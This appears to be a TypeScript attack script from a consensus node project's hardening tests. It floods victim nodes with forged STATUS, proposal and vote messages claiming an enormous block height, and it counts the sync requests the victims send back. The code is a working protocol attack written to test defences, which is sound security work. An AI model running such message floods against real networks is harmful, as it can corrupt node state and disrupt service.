// Lying heights (hardening issue, class 3): STATUS frames claiming a huge height, and proposals and
// votes from a huge height (well-formed, signed by nobody), sent to every victim every `everyMs` for
// `seconds`. An unhardened node stored the claimed height forever and started every next height at
// once (111x the block rate, persisting after the liar left). The script also accepts the streams
// victims open to it and counts their SYNC_REQUESTs (never answered): a claim may cost the victims a
// few sync requests, nothing more.
//
// Args: { addresses: string[], chainId, seconds?: 10, everyMs?: 200, height?: 2^40 }
// Reports: { t, sent, bytes, syncRequests } every second, then { done: true, sent, bytes, syncRequests }.
import { generateIdentity } from '../../../src/crypto/identity.ts';
import { CONSENSUS_MSG_TYPE, encodeConsensusMessage } from '../../../src/wire/consensus-msg.ts';
import { attackArgs, createAttackerHost, report, stopAll } from './attacker-host.ts';
import { junkProposal, junkVote } from './ledger-junk-msgs.ts';
import { type LedgerLink, listenLedger, openLedgerLink } from './ledger-link.ts';

interface Args {
  addresses: string[];
  chainId: string;
  seconds?: number;
  everyMs?: number;
  height?: number;
}

const args = attackArgs<Args>();
const height = args.height ?? 2 ** 40;
let syncRequests = 0;
const host = await createAttackerHost();
await listenLedger(host, (_from, payload) => {
  if (payload[0] === CONSENSUS_MSG_TYPE.SYNC_REQUEST) syncRequests++;
});
const links: LedgerLink[] = [];
for (const a of args.addresses) links.push(await openLedgerLink(host, a));

const fake = generateIdentity().publicKey;
const lies = [
  encodeConsensusMessage({ kind: 'STATUS', height }),
  encodeConsensusMessage({
    kind: 'PROPOSAL',
    proposal: junkProposal(args.chainId, height + 1, 0, fake, 256),
  }),
  encodeConsensusMessage({ kind: 'VOTE', vote: junkVote(args.chainId, height + 1, 0, fake) }),
];

const started = Date.now();
const end = started + (args.seconds ?? 10) * 1000;
let sent = 0;
let lastReport = started;
const bytes = () => links.reduce((n, l) => n + l.sent(), 0);
while (Date.now() < end) {
  for (const l of links) {
    for (const m of lies) {
      await l.send(m);
      sent++;
    }
  }
  if (Date.now() - lastReport >= 1000) {
    lastReport = Date.now();
    report({ t: (lastReport - started) / 1000, sent, bytes: bytes(), syncRequests });
  }
  await new Promise((r) => setTimeout(r, args.everyMs ?? 200));
}
report({ done: true, sent, bytes: bytes(), syncRequests });
await stopAll([host]);
